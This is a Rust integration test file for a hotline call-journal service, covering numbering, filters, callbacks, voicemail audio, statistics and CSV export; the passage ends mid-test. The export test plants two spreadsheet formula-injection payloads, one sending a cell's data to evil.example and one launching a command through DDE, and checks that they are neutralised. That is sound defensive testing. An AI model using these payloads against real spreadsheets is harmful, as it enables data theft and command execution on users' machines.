//! The records and their API, end to end, on SQLite and on the PostgreSQL server: the same
//! cases run on both (`sqlite` and `postgres` tests of each module). The hotline runs
//! in-process; requests go over real HTTP with bearer tokens.

mod support;

use hotline::records::journal::{CallProgress, Disposition, NewCall};
use hotline::records::voicemail::NewVoicemail;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use std::collections::HashSet;
use std::time::Duration;
use support::api::{start, start_with, Api, Db};

fn call(call_id: &str, phone: &str, arrived: &str) -> NewCall {
    NewCall {
        call_id: Some(call_id.into()),
        arrived_at: arrived.parse().unwrap(),
        phone: phone.into(),
        caller_name: None,
    }
}

async fn entry(api: &Api, id: i64) -> Value {
    let (s, e) = api.get("supervisor", &format!("/journal/{id}")).await;
    assert_eq!(s, StatusCode::OK, "{e}");
    e
}

// Numbering restarts each year (in Moscow time), a retried call keeps its entry and takes
// no number, and repeat appeals link to the caller's previous entry.
async fn journal_numbering_and_repeats(db: Db) {
    let api = start(db).await;
    let r = &api.hotline.records;
    let a = r
        .record_call(&call("a", "+7 (978) 111-22-33", "2026-03-10T07:00:00Z"))
        .await
        .unwrap();
    let b = r
        .record_call(&call("b", "+7 978 444-55-66", "2026-03-10T08:00:00Z"))
        .await
        .unwrap();
    let again = r
        .record_call(&call("a", "+7 (978) 111-22-33", "2026-03-10T07:00:00Z"))
        .await
        .unwrap();
    assert_eq!(again, a, "a retried write keeps the entry");
    // 22:30 UTC on 31 December is 01:30 on 1 January in Moscow: the new year's first.
    let ny = r
        .record_call(&call("ny", "89784445566", "2026-12-31T22:30:00Z"))
        .await
        .unwrap();
    let c = r
        .record_call(&call("c", "89781112233", "2026-03-20T09:00:00Z"))
        .await
        .unwrap();
    let late = r
        .record_call(&call("late", "9781112233", "2026-06-20T09:00:00Z"))
        .await
        .unwrap();
    let anon = r
        .record_call(&call("anon", "anonymous", "2026-03-10T09:00:00Z"))
        .await
        .unwrap();
    let anon2 = r
        .record_call(&call("anon2", "anonymous", "2026-03-10T09:05:00Z"))
        .await
        .unwrap();

    let (ea, eb, ec, eny) = (
        entry(&api, a).await,
        entry(&api, b).await,
        entry(&api, c).await,
        entry(&api, ny).await,
    );
    assert_eq!(
        (ea["year"].as_i64(), ea["seq"].as_i64()),
        (Some(2026), Some(1))
    );
    assert_eq!(eb["seq"], 2);
    assert_eq!(ec["seq"], 3, "no number was taken by the retried call");
    assert_eq!(
        (eny["year"].as_i64(), eny["seq"].as_i64()),
        (Some(2027), Some(1))
    );
    // Within 30 days from the same number in another format: a repeat of `a`.
    assert_eq!(ec["repeat_of"]["id"], a);
    assert_eq!(ec["repeat_of"]["seq"], 1);
    assert!(ea["repeat_of"].is_null());
    // 92 days later: not a repeat. A withheld number never matches.
    assert!(entry(&api, late).await["repeat_of"].is_null());
    assert!(entry(&api, anon).await["repeat_of"].is_null());
    assert!(entry(&api, anon2).await["repeat_of"].is_null());
    // An agreed callback not yet made keeps the appeal open beyond the window.
    let (s, _) = api
        .call(
            Some("operator"),
            Method::PATCH,
            &format!("/journal/{late}"),
            Some(json!({"callback_at": "2026-06-21T10:00:00Z"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let later = r
        .record_call(&call("later", "+79781112233", "2026-09-20T09:00:00Z"))
        .await
        .unwrap();
    assert_eq!(entry(&api, later).await["repeat_of"]["id"], late);
    // The yearly entry starts as in progress and carries its call id.
    assert_eq!(ea["disposition"], "in_progress");
    assert_eq!(ea["call_id"], "a");
    // One batch: a caller twice (the second repeats the first, inside the batch), a
    // Call-ID twice (one entry), and a Call-ID journaled before (its old entry).
    let batch = [
        call("p1", "+7 978 555-00-00", "2026-10-01T08:00:00Z"),
        call("p2", "89785550000", "2026-10-01T08:05:00Z"),
        call("p1", "+7 978 555-00-00", "2026-10-01T08:00:00Z"),
        call("b", "+7 978 444-55-66", "2026-03-10T08:00:00Z"),
    ];
    let ids = r.record_calls(&batch).await.unwrap();
    assert_eq!(ids[2], ids[0]);
    assert_eq!(ids[3], b);
    let (p1, p2) = (entry(&api, ids[0]).await, entry(&api, ids[1]).await);
    assert_eq!(p2["repeat_of"]["id"], ids[0]);
    assert_eq!((p1["seq"].as_i64(), p2["seq"].as_i64()), (Some(8), Some(9)));
    api.stop().await;
}
on_both_databases!(journal_numbering_and_repeats);

// Concurrent calls get distinct, gapless numbers.
async fn journal_writer_numbers_concurrent_calls(db: Db) {
    let api = start(db).await;
    let writer = api.hotline.records.clone();
    let mut tasks = Vec::new();
    for i in 0..300 {
        let w = writer.clone();
        tasks.push(tokio::spawn(async move {
            w.record_call(&call(
                &format!("w{i}"),
                &format!("+7978000{i:04}"),
                "2026-04-01T10:00:00Z",
            ))
            .await
            .unwrap()
        }));
    }
    let mut ids = HashSet::new();
    for t in tasks {
        assert!(ids.insert(t.await.unwrap()));
    }
    let mut seqs = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            Some(c) => format!("/journal?limit=500&cursor={c}"),
            None => "/journal?limit=500".to_string(),
        };
        let (s, page) = api.get("supervisor", &path).await;
        assert_eq!(s, StatusCode::OK, "{page}");
        seqs.extend(
            page["entries"]
                .as_array()
                .unwrap()
                .iter()
                .map(|e| e["seq"].as_i64().unwrap()),
        );
        match page["next"].as_str() {
            Some(c) => cursor = Some(c.to_string()),
            None => break,
        }
    }
    seqs.sort();
    assert_eq!(seqs, (1..=300).collect::<Vec<i64>>());
    api.stop().await;
}
on_both_databases!(journal_writer_numbers_concurrent_calls);

// Filters, cursor pages, the operator's edit, its audit trail and bad input.
async fn journal_filters_pages_patch_and_audit(db: Db) {
    let api = start(db).await;
    let r = &api.hotline.records;
    let mut ids = Vec::new();
    for i in 0..120i64 {
        let at = format!("2026-03-{:02}T{:02}:{:02}:00Z", 2 + i / 24, i % 24, i % 60);
        let id = api
            .journal_call(&format!("c{i}"), &format!("+7 978 000 {i:04}"), &at)
            .await;
        let (disposition, operator) = match i % 3 {
            0 => (Disposition::Answered, Some("1001".to_string())),
            1 => (Disposition::Abandoned, None),
            _ => (Disposition::Answered, Some("1002".to_string())),
        };
        hotline::store::journal::update_progress(
            &r.store,
            id,
            &CallProgress {
                disposition: Some(disposition),
                operator,
                wait_ms: Some(1000 * i),
                ..Default::default()
            },
        )
        .await
        .unwrap();
        ids.push(id);
    }
    // Pages of 50: 50, 50, 20, newest first, each entry once.
    let mut seen = Vec::new();
    let mut path = "/journal?limit=50".to_string();
    let mut pages = 0;
    loop {
        let (s, page) = api.get("operator", &path).await;
        assert_eq!(s, StatusCode::OK, "{page}");
        pages += 1;
        let entries = page["entries"].as_array().unwrap();
        seen.extend(entries.iter().map(|e| e["id"].as_i64().unwrap()));
        match page["next"].as_str() {
            Some(c) => path = format!("/journal?limit=50&cursor={c}"),
            None => break,
        }
    }
    assert_eq!(pages, 3);
    let mut newest_first = ids.clone();
    newest_first.reverse();
    assert_eq!(seen, newest_first);

    let count = |v: &Value| v["entries"].as_array().unwrap().len();
    let (_, v) = api
        .get("supervisor", "/journal?operator=1001&limit=500")
        .await;
    assert_eq!(count(&v), 40);
    assert!(v["entries"]
        .as_array()
        .unwrap()
        .iter()
        .all(|e| e["operator"] == "1001"));
    let (_, v) = api
        .get("supervisor", "/journal?disposition=abandoned&limit=500")
        .await;
    assert_eq!(count(&v), 40);
    let (_, v) = api
        .get(
            "supervisor",
            "/journal?disposition=answered&operator=1002&limit=500",
        )
        .await;
    assert_eq!(count(&v), 40);
    // Dates are Moscow days: 2026-03-02 00:00–24:00 MSK is 1 March 21:00Z – 2 March 21:00Z,
    // which holds the first 21 calls (00:00Z to 20:00Z on 2 March).
    let (_, v) = api
        .get(
            "supervisor",
            "/journal?from=2026-03-02&to=2026-03-02&limit=500",
        )
        .await;
    assert_eq!(count(&v), 21);
    let (_, v) = api
        .get(
            "supervisor",
            "/journal?from=2026-03-02T05:00:00Z&to=2026-03-02T07:00:00Z",
        )
        .await;
    assert_eq!(count(&v), 2);
    let (_, v) = api.get("supervisor", "/journal?phone=89780000007").await;
    assert_eq!(count(&v), 1);
    assert_eq!(v["entries"][0]["id"], ids[7]);

    // The operator fills in the columns; the text filter finds Cyrillic in any case.
    let target = ids[5];
    let (s, e) = api
        .call(
            Some("operator"),
            Method::PATCH,
            &format!("/journal/{target}"),
            Some(json!({
                "caller_name": "Смирнов Олег Петрович",
                "caller_status": "individual",
                "content": "Банкомат на ул. Ленина не выдал деньги",
                "appeal_type": "complaint",
                "forwarded_to": "Управление карточного бизнеса",
                "forwarded_at": "2026-03-02T09:30:00+03:00"
            })),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{e}");
    assert_eq!(e["caller_name"], "Смирнов Олег Петрович");
    assert_eq!(e["forwarded_at"], "2026-03-02T06:30:00Z");
    let (_, v) = api
        .get(
            "supervisor",
            "/journal?q=%D0%91%D0%90%D0%9D%D0%9A%D0%9E%D0%9C%D0%90%D0%A2",
        )
        .await; // "БАНКОМАТ"
    assert_eq!(count(&v), 1);
    assert_eq!(v["entries"][0]["id"], target);
    let (_, v) = api.get("supervisor", "/journal?q=%25").await; // "%" is literal, not a wildcard
    assert_eq!(count(&v), 0);

    // Clearing a field with null; the audit trail shows who, old → new.
    let (s, e) = api
        .call(
            Some("supervisor"),
            Method::PATCH,
            &format!("/journal/{target}"),
            Some(json!({"caller_name": null})),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    assert!(e["caller_name"].is_null());
    let (s, audit) = api
        .get("supervisor", &format!("/audit?entity=journal&id={target}"))
        .await;
    assert_eq!(s, StatusCode::OK);
    let lines = audit["entries"].as_array().unwrap();
    assert_eq!(lines[0]["action"], "create");
    let name_changes: Vec<&Value> = lines
        .iter()
        .filter(|l| l["field"] == "caller_name")
        .collect();
    assert_eq!(name_changes.len(), 2);
    assert_eq!(name_changes[0]["actor"], "test operator");
    assert!(name_changes[0]["old_value"].is_null());
    assert_eq!(name_changes[0]["new_value"], "Смирнов Олег Петрович");
    assert_eq!(name_changes[1]["actor"], "test supervisor");
    assert_eq!(name_changes[1]["old_value"], "Смирнов Олег Петрович");
    assert!(lines
        .iter()
        .any(|l| l["field"] == "forwarded_at" && l["new_value"] == "2026-03-02T06:30:00.000Z"));
    assert!(lines
        .iter()
        .any(|l| l["field"] == "disposition" && l["actor"] == "system"));

    // Bad input: 400 naming the field, and nothing written.
    let before = entry(&api, target).await;
    for (body, field) in [
        (json!({"contnet": "x"}), None),
        (json!({"callback_at": "tomorrow"}), Some("callback_at")),
        (json!({"caller_status": "ФЛ"}), Some("caller_status")),
        (json!({"phone": "call me maybe"}), Some("phone")),
        (json!({"content": "x".repeat(20_001)}), Some("content")),
        (json!({}), None),
    ] {
        let (s, err) = api
            .call(
                Some("operator"),
                Method::PATCH,
                &format!("/journal/{target}"),
                Some(body.clone()),
            )
            .await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{body}: {err}");
        assert!(err["error"].is_string(), "{err}");
        if let Some(f) = field {
            assert_eq!(err["field"], f, "{err}");
        }
    }
    let (_, err) = api
        .call(
            Some("operator"),
            Method::PATCH,
            &format!("/journal/{target}"),
            Some(json!({"contnet": "x"})),
        )
        .await;
    assert!(err["error"].as_str().unwrap().contains("contnet"), "{err}");
    assert_eq!(entry(&api, target).await, before);
    for bad in [
        "/journal?disposition=lost",
        "/journal?from=yesterday",
        "/journal?limit=0",
        "/journal?cursor=zzz",
        "/journal?colour=red",
    ] {
        let (s, err) = api.get("supervisor", bad).await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{bad}: {err}");
    }
    let (s, _) = api.get("supervisor", "/journal/999999").await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    api.stop().await;
}
on_both_databases!(journal_filters_pages_patch_and_audit);

// A callback form from a journal entry: fields 1–5 from the entry, sent (columns 8–9),
// completed (field 10 and column 10); overdue forms are listed as such.
async fn callback_forms_lifecycle(db: Db) {
    let api = start(db).await;
    let jid = api
        .journal_call("cb", "+7 978 765-43-21", "2026-03-10T07:15:00Z")
        .await;
    let (s, form) = api
        .call(
            Some("operator"),
            Method::POST,
            "/callbacks",
            Some(json!({
                "journal_id": jid,
                "caller_name": "Кузнецова Ирина",
                "caller_status": "legal",
                "question": "Как закрыть расчётный счёт организации?",
                "convenient_at": "2030-03-11T12:00:00+03:00",
                "convenient_note": "после обеда",
                "operator_comment": "нужен специалист РКО"
            })),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{form}");
    let id = form["id"].as_i64().unwrap();
    assert_eq!(form["phone"], "+7 978 765-43-21");
    assert_eq!(form["called_at"], "2026-03-10T07:15:00Z");
    assert_eq!(form["operator"], "1001");
    assert_eq!(form["overdue"], false);
    assert_eq!(
        entry(&api, jid).await["callback_at"],
        "2030-03-11T09:00:00Z"
    );

    let (s, sent) = api
        .call(
            Some("operator"),
            Method::POST,
            &format!("/callbacks/{id}/send"),
            Some(json!({"assigned_to": "Орлов П. (РКО)"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{sent}");
    assert_eq!(sent["assigned_to"], "Орлов П. (РКО)");
    let e = entry(&api, jid).await;
    assert_eq!(e["forwarded_to"], "Орлов П. (РКО)");
    assert!(e["forwarded_at"].is_string());
    let (_, mine) = api.get("card_department", "/callbacks?assigned_to=%D0%9E%D1%80%D0%BB%D0%BE%D0%B2%20%D0%9F.%20(%D0%A0%D0%9A%D0%9E)").await;
    assert_eq!(mine["forms"].as_array().unwrap().len(), 1);

    let (s, done) = api
        .call(
            Some("card_department"),
            Method::POST,
            &format!("/callbacks/{id}/complete"),
            Some(json!({"called_back_at": "2026-03-11T09:05:00Z", "result": "проконсультирован"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{done}");
    assert_eq!(done["called_back_at"], "2026-03-11T09:05:00Z");
    assert_eq!(done["called_back_by"], "test card_department");
    assert_eq!(entry(&api, jid).await["done_at"], "2026-03-11T09:05:00Z");
    let (s, _) = api
        .call(
            Some("operator"),
            Method::POST,
            &format!("/callbacks/{id}/complete"),
            Some(json!({})),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "field 10 is written once");
    let (s, _) = api
        .call(
            Some("operator"),
            Method::POST,
            &format!("/callbacks/{id}/send"),
            Some(json!({"assigned_to": "x"})),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT);

    // A standalone form whose agreed time has passed is overdue.
    let (s, late) = api
        .call(
            Some("operator"),
            Method::POST,
            "/callbacks",
            Some(json!({
                "phone": "+7 978 000-00-01", "question": "Курс валют на завтра",
                "convenient_at": "2026-01-12T10:00:00Z"
            })),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{late}");
    assert_eq!(late["overdue"], true);
    let (_, overdue) = api.get("supervisor", "/callbacks?status=overdue").await;
    let ids: Vec<i64> = overdue["forms"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids, vec![late["id"].as_i64().unwrap()]);
    let (_, done_list) = api.get("supervisor", "/callbacks?status=done").await;
    assert_eq!(done_list["forms"].as_array().unwrap().len(), 1);

    for (body, field) in [
        (
            json!({"phone": "+79780000000", "question": " ", "convenient_at": "2030-01-01T00:00:00Z"}),
            "question",
        ),
        (
            json!({"phone": "+79780000000", "question": "q"}),
            "convenient_at",
        ),
        (
            json!({"question": "q", "convenient_at": "2030-01-01T00:00:00Z"}),
            "phone",
        ),
        (
            json!({"phone": "+79780000000", "question": "q", "convenient_at": "завтра"}),
            "convenient_at",
        ),
    ] {
        let (s, err) = api
            .call(
                Some("operator"),
                Method::POST,
                "/callbacks",
                Some(body.clone()),
            )
            .await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{body}: {err}");
        assert!(err["error"].as_str().unwrap().contains(field), "{err}");
    }
    let (s, _) = api
        .call(
            Some("operator"),
            Method::POST,
            "/callbacks",
            Some(json!({
                "journal_id": 424242, "question": "q", "convenient_at": "2030-01-01T00:00:00Z"
            })),
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, err) = api
        .call(
            Some("operator"),
            Method::POST,
            &format!("/callbacks/{}/complete", late["id"]),
            Some(json!({"called_back_at": "2099-01-01T00:00:00Z"})),
        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{err}");
    assert_eq!(err["field"], "called_back_at");
    api.stop().await;
}
on_both_databases!(callback_forms_lifecycle);

fn write_wav(path: &std::path::Path, samples: usize) -> Vec<u8> {
    let pcm: Vec<i16> = (0..samples)
        .map(|i| ((i as f64 * 0.3).sin() * 8000.0) as i16)
        .collect();
    support::rtp::write_wav_8k(path, &pcm);
    std::fs::read(path).unwrap()
}

// A voicemail: next-working-day deadline from the calendar, its callback form, the audio
// with range requests, processing, the transcript in the journal and its search.
async fn voicemail_records_and_audio(db: Db) {
    let api = start(db).await;
    let r = &api.hotline.records;
    // Friday 8 May 2026, 20:00 Moscow time; 9–11 May are days off, 12 May closes at 18:00.
    let jid = api
        .journal_call("vm", "+7 978 222-33-44", "2026-05-08T17:00:00Z")
        .await;
    let rel = "voicemail/2026/05/08/vm.wav";
    let bytes = write_wav(&api.dir.path().join(rel), 8000);
    let vid = r
        .add_voicemail(&NewVoicemail {
            journal_id: jid,
            arrived_at: "2026-05-08T17:00:30Z".parse().unwrap(),
            file: rel.into(),
            duration: Duration::from_secs(1),
            empty: false,
            after_hours: true,
        })
        .await
        .unwrap();
    let (s, vm) = api.get("operator", &format!("/voicemail/{vid}")).await;
    assert_eq!(s, StatusCode::OK, "{vm}");
    assert_eq!(vm["deadline_at"], "2026-05-12T15:00:00Z");
    assert_eq!(vm["overdue"], true);
    assert_eq!(vm["duration_s"], 1.0);
    assert_eq!(vm["after_hours"], true);
    let e = entry(&api, jid).await;
    assert_eq!(e["disposition"], "after_hours_voicemail");
    assert_eq!(e["voicemail"]["id"], vid);
    // The automatic callback form: field 8 "voicemail", due by the deadline.
    let (_, form) = api
        .get("operator", &format!("/callbacks/{}", vm["callback_id"]))
        .await;
    assert_eq!(form["operator"], "voicemail");
    assert_eq!(form["voicemail_id"], vid);
    assert_eq!(form["journal_id"], jid);
    assert_eq!(form["convenient_at"], "2026-05-12T15:00:00Z");
    assert_eq!(form["phone"], "+7 978 222-33-44");

    // The audio, whole and by range.
    let (s, h, body) = api
        .raw(
            Some("operator"),
            Method::GET,
            &format!("/voicemail/{vid}/audio"),
            None,
            &[],
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(h["content-type"], "audio/wav");
    assert_eq!(h["accept-ranges"], "bytes");
    assert_eq!(body, bytes);
    let (s, h, body) = api
        .raw(
            Some("operator"),
            Method::GET,
            &format!("/voicemail/{vid}/audio"),
            None,
            &[("range", "bytes=0-43")],
        )
        .await;
    assert_eq!(s, StatusCode::PARTIAL_CONTENT);
    assert_eq!(body, &bytes[..44]);
    assert_eq!(
        h["content-range"],
        format!("bytes 0-43/{}", bytes.len()).as_str()
    );
    let (s, _, body) = api
        .raw(
            Some("operator"),
            Method::GET,
            &format!("/voicemail/{vid}/audio"),
            None,
            &[("range", "bytes=100-")],
        )
        .await;
    assert_eq!(s, StatusCode::PARTIAL_CONTENT);
    assert_eq!(body, &bytes[100..]);
    let (s, _, _) = api
        .raw(
            Some("operator"),
            Method::GET,
            &format!("/voicemail/{vid}/audio"),
            None,
            &[("range", &format!("bytes={}-", bytes.len() + 10))],
        )
        .await;
    assert_eq!(s, StatusCode::RANGE_NOT_SATISFIABLE);

    // The transcript becomes the form's question, the journal's content, and searchable.
    hotline::store::voicemail::set_transcript(&r.store, vid, "У меня банкомат СКИММЕР на Ленина")
        .await
        .unwrap();
    let e = entry(&api, jid).await;
    assert_eq!(e["content"], "У меня банкомат СКИММЕР на Ленина");
    assert_eq!(
        e["voicemail"]["transcript"],
        "У меня банкомат СКИММЕР на Ленина"
    );
    let (_, v) = api
        .get(
            "supervisor",
            "/journal?q=%D1%81%D0%BA%D0%B8%D0%BC%D0%BC%D0%B5%D1%80",
        )
        .await; // "скиммер"
    assert_eq!(v["entries"].as_array().unwrap().len(), 1);
    let (_, form) = api
        .get("operator", &format!("/callbacks/{}", vm["callback_id"]))
        .await;
    assert_eq!(form["question"], "У меня банкомат СКИММЕР на Ленина");
    // …and each of those changes is in the audit log.
    let (_, audit) = api
        .get(
            "supervisor",
            &format!("/audit?entity=callback&id={}", form["id"]),
        )
        .await;
    assert!(
        audit["entries"]
            .as_array()
            .unwrap()
            .iter()
            .any(|l| l["field"] == "question"
                && l["actor"] == "system"
                && l["new_value"] == "У меня банкомат СКИММЕР на Ленина"),
        "{audit}"
    );
    let (_, audit) = api
        .get("supervisor", &format!("/audit?entity=journal&id={jid}"))
        .await;
    assert!(
        audit["entries"]
            .as_array()
            .unwrap()
            .iter()
            .any(|l| l["field"] == "content"),
        "{audit}"
    );

    let (_, open) = api.get("operator", "/voicemail?status=overdue").await;
    assert_eq!(open["voicemail"].as_array().unwrap().len(), 1);
    let (s, done) = api
        .call(
            Some("operator"),
            Method::POST,
            &format!("/voicemail/{vid}/process"),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{done}");
    assert_eq!(done["processed_by"], "test operator");
    assert_eq!(done["overdue"], false);
    let (s, _) = api
        .call(
            Some("operator"),
            Method::POST,
            &format!("/voicemail/{vid}/process"),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT);
    let (_, open) = api.get("operator", "/voicemail?status=open").await;
    assert!(open["voicemail"].as_array().unwrap().is_empty());
    let (_, processed) = api.get("operator", "/voicemail?status=processed").await;
    assert_eq!(processed["voicemail"].as_array().unwrap().len(), 1);

    // A message whose file is gone is a clear 404, not a 500.
    std::fs::remove_file(api.dir.path().join(rel)).unwrap();
    let (s, err) = api
        .get("operator", &format!("/voicemail/{vid}/audio"))
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{err}");
    api.stop().await;
}
on_both_databases!(voicemail_records_and_audio);

// Statistics over a day: counts, service level, waits, repeats and §8.2 satisfaction.
async fn stats_over_a_period(db: Db) {
    let api = start_with(db, "[records]\nservice_level_s = 20\n").await;
    let r = &api.hotline.records;
    // (disposition, wait s, complaint) on 2026-03-10; the 2nd and 5th calls repeat the 1st.
    let calls = [
        (Disposition::Answered, 5, true),
        (Disposition::Answered, 30, true),
        (Disposition::Abandoned, 40, false),
        (Disposition::Voicemail, 120, false),
        (Disposition::Answered, 10, true),
        (Disposition::AfterHoursVoicemail, 0, false),
    ];
    for (i, (d, wait, complaint)) in calls.iter().enumerate() {
        let phone = if matches!(i, 0 | 1 | 4) {
            "+79780000001".to_string()
        } else {
            format!("+7978000010{i}")
        };
        let id = api
            .journal_call(
                &format!("s{i}"),
                &phone,
                &format!("2026-03-10T{:02}:00:00Z", i + 6),
            )
            .await;
        hotline::store::journal::update_progress(
            &r.store,
            id,
            &CallProgress {
                disposition: Some(*d),
                wait_ms: (*d != Disposition::AfterHoursVoicemail).then_some(wait * 1000),
                ..Default::default()
            },
        )
        .await
        .unwrap();
        if *complaint {
            let (s, _) = api
                .call(
                    Some("operator"),
                    Method::PATCH,
                    &format!("/journal/{id}"),
                    Some(json!({"appeal_type": "complaint"})),
                )
                .await;
            assert_eq!(s, StatusCode::OK);
        }
    }
    // An after-hours caller who hung up during the greeting: abandoned, but never offered
    // to an operator (no wait), so outside the service level.
    let id = api
        .journal_call("s-greeting", "+79780000200", "2026-03-10T20:00:00Z")
        .await;
    hotline::store::journal::update_progress(
        &r.store,
        id,
        &CallProgress {
            disposition: Some(Disposition::Abandoned),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    // Another day, not counted.
    api.journal_call("other", "+79789999999", "2026-03-12T08:00:00Z")
        .await;
    let (s, st) = api
        .get("supervisor", "/stats?from=2026-03-10&to=2026-03-10")
        .await;
    assert_eq!(s, StatusCode::OK, "{st}");
    assert_eq!(st["total"], 7);
    assert_eq!(st["answered"], 3);
    assert_eq!(st["abandoned"], 2);
    assert_eq!(st["voicemail"], 1);
    assert_eq!(st["after_hours_voicemail"], 1);
    // Offered: 3 answered + 1 abandoned + 1 voicemail; within 20 s: the 5 s and 10 s calls.
    assert_eq!(st["service_level"], 0.4);
    assert_eq!(st["longest_wait_s"], 120.0);
    assert_eq!(st["average_wait_s"], 41.0); // (5+30+40+120+10)/5
    assert_eq!(st["repeat_calls"], 2);
    assert_eq!(st["complaints"], 3);
    assert_eq!(st["repeat_complaints"], 2);
    assert_eq!(st["satisfaction"], "low"); // 2 of 3 > 40 %
    let (s, err) = api
        .get("supervisor", "/stats?from=2026-03-11&to=2026-03-10")
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{err}");
    api.stop().await;
}
on_both_databases!(stats_over_a_period);

// The CSV export: BOM, the Appendix 6 headings, every matching row (over several pages),
// Russian values, parsed back with a CSV reader.
async fn csv_export_parses_back(db: Db) {
    let api = start(db).await;
    let r = &api.hotline.records;
    let calls: Vec<NewCall> = (0..2500)
        .map(|i| NewCall {
            caller_name: Some(format!("Абонент {i}")),
            ..call(
                &format!("x{i}"),
                &format!("+7978{i:07}"),
                &format!("2026-04-{:02}T08:{:02}:00Z", 1 + i / 100, i % 60),
            )
        })
        .collect();
    let ids = r.record_calls(&calls).await.unwrap();
    // The text filter finds a word in 2,500 entries (SQLite walks the journal newest first)
    // and one in a single entry (SQLite narrows by its trigram table) alike.
    let (_, common) = api
        .get(
            "supervisor",
            "/journal?q=%D0%B0%D0%B1%D0%BE%D0%BD%D0%B5%D0%BD%D1%82&limit=500",
        )
        .await; // "абонент"
    assert_eq!(common["entries"].as_array().unwrap().len(), 500);
    assert_eq!(common["entries"][0]["caller_name"], "Абонент 2459"); // 25 April 08:59
    let (_, rare) = api
        .get(
            "supervisor",
            "/journal?q=%D0%B0%D0%B1%D0%BE%D0%BD%D0%B5%D0%BD%D1%82%201234",
        )
        .await; // "абонент 1234"
    let rare = rare["entries"].as_array().unwrap();
    assert_eq!(rare.len(), 1);
    assert_eq!(rare[0]["caller_name"], "Абонент 1234");
    let (s, _) = api
        .call(
            Some("operator"),
            Method::PATCH,
            &format!("/journal/{}", ids[0]),
            Some(json!({
                "caller_name": "Иванов Иван", "caller_status": "individual",
                "content": "Вопрос, с запятой; и \"кавычками\"\nи переносом"
            })),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    // Text that a spreadsheet would run as a formula: from the caller (the SIP display
    // name) and from an operator (PATCH).
    let formula_name = "=HYPERLINK(CONCAT('http://evil.example/?',A1),'Click')";
    let formula_content = "@SUM(1+1)*cmd|' /C calc'!A0";
    sqlx::query("UPDATE journal_entries SET caller_name = $1 WHERE id = $2")
        .bind(formula_name)
        .bind(ids[1])
        .execute(r.store.pool())
        .await
        .unwrap();
    let (s, _) = api
        .call(
            Some("operator"),
            Method::PATCH,
            &format!("/journal/{}", ids[1]),
            Some(json!({ "content": formula_content })),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (s, h, body) = api
        .raw(
            Some("supervisor"),
            Method::GET,
            "/journal/export.csv",
            None,
            &[],
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(h["content-type"], "text/csv; charset=utf-8");
    assert!(
        body.starts_with("\u{feff}".as_bytes()),
        "UTF-8 BOM for Excel"
    );
    let mut rd = csv::Reader::from_reader(&body[3..]);
    let headings: Vec<String> = rd.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        &headings[..10],
        &[
            "№ п/п",
            "Дата",
            "ФИО заявителя",
            "Статус заявителя: ФЛ/ ЮЛ",
            "Номер телефона заявителя",
            "Дата и время обратной связи",
            "Содержание сообщения",
            "Кому направлено обращение",
            "Когда направлено обращение",
            "Отметка об исполнении (дата и время осуществления обратного звонка)",
        ]
    );
    let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 2500);
    let first = rows.iter().find(|r| &r[0] == "1").unwrap();
    assert_eq!(&first[1], "01.04.2026");
    assert_eq!(&first[2], "Иванов Иван");
    assert_eq!(&first[3], "ФЛ");
    assert_eq!(&first[4], "+79780000000");
    assert_eq!(&first[6], "Вопрос, с запятой; и \"кавычками\"\nи переносом");
    assert_eq!(&first[12], "01.04.2026 11:00:00"); // 08:00 UTC in Moscow
    let second = rows.iter().find(|r| &r[0] == "2").unwrap();
    assert_eq!(
        &second[2],
        format!("'{formula_name}"),
        "neutralised for Excel"
    );
    assert_eq!(&second[6], format!("'{formula_content}"));
    assert_eq!(&second[4], "+79780000001", "a phone number is no formula");
    let mut seqs: Vec<i64> = rows.iter().map(|r| r[0].parse().unwrap()).collect();
    seqs.sort();
    assert_eq!(seqs, (1..=2500).collect::<Vec<i64>>());
    // Filters apply to the export too.
    let (_, _, body) = api
        .raw(
            Some("supervisor"),
            Method::GET,
            "/journal/export.csv?from=2026-04-21",
            None,
            &[],
        )
        .await;
    let n = csv::Reader::from_reader(&body[3..]).records().count();
    assert_eq!(n, 500); // 21–25 April, 100 a day
                        // For Excel in the Russian locale: `;` between fields, `,` as the decimal mark.
    let (s, _, body) = api
        .raw(
            Some("supervisor"),
            Method::GET,
            "/journal/export.csv?from=2026-04-21&sep=semicolon",
            None,
            &[],
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let text = std::str::from_utf8(&body[3..]).unwrap();
    assert!(
        text.starts_with("№ п/п;Дата;ФИО заявителя;"),
        "{}",
        &text[..80]
    );
    let rows: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap())
        .collect();
    assert_eq!(rows.len(), 500);
    assert!(rows.iter().all(|r| r.len() == 21));
    let (s, _, body) = api
        .raw(
            Some("supervisor"),
            Method::GET,
            "/journal/export.csv?sep=tab",
            None,
            &[],
